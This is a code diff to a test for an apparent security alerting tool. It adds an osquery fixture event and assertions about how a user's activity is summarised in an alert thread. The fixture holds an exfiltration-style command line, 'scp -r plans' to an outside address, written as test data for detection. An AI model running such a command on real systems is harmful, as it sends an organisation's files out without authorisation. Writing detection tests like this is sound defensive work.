@@ -102,6 +102,14 @@ it('is told in the thread some seconds after the alert, and on its page to who m
       host: { name: 'lt-joana' },
       process: { name: 'curl.exe' },
     },
+    {
+      name: 'pack_edr_processes',
+      hostIdentifier: 'lt-joana',
+      unixTime: Math.floor(now / 1_000) - 50,
+      decorations: { username: 'jsilva' },
+      columns: { pid: '1204', name: 'scp', path: '/usr/bin/scp', cmdline: 'scp -r plans backup@203.0.113.9:' },
+      action: 'added',
+    },
     // Somebody else's are not hers.
     { message: 'x', event: { action: 'file_downloaded', dataset: 'slack.audit' }, user: { name: 'ben' }, file: { name: 'other.pdf' } },
   ]);
@@ -121,6 +129,7 @@ it('is told in the thread some seconds after the alert, and on its page to who m
   expect(said).toMatch(/New for Joana Silva\*\\n• address: 203\.0\.113\.9\\n• program: python-requests\/2\.32/);
   expect(said).toMatch(/address: 192\.0\.2\.44 \(3 days\)/);
   expect(said).toMatch(/windows\.sysmon: 1 event \(process-created 1\); on lt-joana; ran curl\.exe/);
+  expect(said).toMatch(/osquery\.result: 1 event \(process_seen 1\); on lt-joana; ran scp/);
   expect(said).not.toContain('other.pdf');
 
   const ids = root?.metadata?.event_payload.alert_ids;
@@ -144,6 +153,7 @@ it('is told in the thread some seconds after the alert, and on its page to who m
         ok: true,
         value: [
           { dataset: 'slack.audit', count: 16 },
+          { dataset: 'osquery.result', count: 1 },
           { dataset: 'windows.sysmon', count: 1 },
         ],
       },
